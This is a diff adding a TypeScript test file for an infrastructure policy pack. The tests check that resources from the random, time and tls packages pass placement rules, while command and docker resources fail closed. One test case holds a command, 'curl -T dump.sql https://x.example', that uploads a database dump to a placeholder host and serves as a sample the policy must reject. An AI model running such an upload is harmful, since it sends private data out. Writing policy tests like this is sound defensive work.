@@ -1,0 +1,58 @@
+/**
+ * Resources of the packages that live only in the stack's state (random, time, tls) pass
+ * `reviewed-resource-types` and `resource-placement`: no cloud API, no region, no data path. Any
+ * other package the pack does not classify still fails closed, and cannot be placed.
+ */
+import type { Plan } from "../../engine/plan";
+import { add, addProvider, fixturePlan, pipe } from "../helpers/policy-plan";
+import { oregonSettings, policyPack, runCases } from "../helpers/policy-session";
+
+const pack = policyPack();
+let happy: Plan;
+beforeAll(async () => {
+  happy = await fixturePlan("policy-aws", "us");
+});
+
+/** A resource of another package, through that package's provider (no config: no region). */
+const addOf = (type: string, name: string, inputs: Record<string, unknown>) => {
+  const pkg = type.split(":")[0];
+  return pipe(
+    addProvider(pkg, `${pkg}-provider`, {}),
+    add(type, name, inputs, { provider: `${pkg}-provider` }),
+  );
+};
+
+describe("packages whose resources live only in the stack's state", () => {
+  runCases(pack, () => happy, oregonSettings, [
+    {
+      name: "a command of the command package runs a program (not state-only)",
+      bad: addOf("command:local:Command", "export", {
+        create: "curl -T dump.sql https://x.example",
+      }),
+      expected: [
+        [
+          "resource-placement",
+          "export",
+          "mandatory",
+          ['local command "export"', "an undetermined region"],
+        ],
+        ["reviewed-resource-types", "export", "mandatory", null],
+      ],
+      twinName: "a random password of the random package is created",
+      twin: addOf("random:index/randomPassword:RandomPassword", "db-password", { length: 24 }),
+    },
+    {
+      name: "a docker image of the docker package is built and pushed (not state-only)",
+      bad: addOf("docker:index/image:Image", "app", { imageName: "registry.example/app" }),
+      expected: [
+        ["resource-placement", "app", "mandatory", ['index image "app"', "an undetermined region"]],
+        ["reviewed-resource-types", "app", "mandatory", null],
+      ],
+      twinName: "a private key of the tls package and a delay of the time package are created",
+      twin: pipe(
+        addOf("tls:index/privateKey:PrivateKey", "signing", { algorithm: "ED25519" }),
+        addOf("time:index/sleep:Sleep", "wait", { createDuration: "30s" }),
+      ),
+    },
+  ]);
+});
